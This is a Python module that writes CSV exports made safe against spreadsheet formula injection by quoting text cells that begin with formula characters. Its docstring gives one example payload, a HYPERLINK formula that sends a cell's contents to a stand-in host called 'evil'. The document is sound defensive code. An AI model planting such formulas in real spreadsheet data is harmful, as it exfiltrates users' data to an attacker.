"""CSV for spreadsheets, safe against formula injection (CWE-1236).

A cell a spreadsheet would read as a formula (text starting with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return) is written with a leading single quote, so a product title such as
``=HYPERLINK("http://evil/?"&A1)`` shows as text instead of running. Every CSV the server writes
goes through ``write_csv`` (a contract test in ``tests/unit/test_csv_export.py`` looks for
``csv.writer`` elsewhere). Numbers are written as numbers: only text is quoted, so an exported
negative amount stays ``-12.50``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(cell: object) -> object:
    """``cell`` unchanged unless it is text a spreadsheet would evaluate; then ``'`` + text."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def write_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The CSV text of ``header`` and ``rows``, every text cell made formula-safe."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([formula_safe(h) for h in header])
    writer.writerows([formula_safe(cell) for cell in row] for row in rows)
    return out.getvalue()
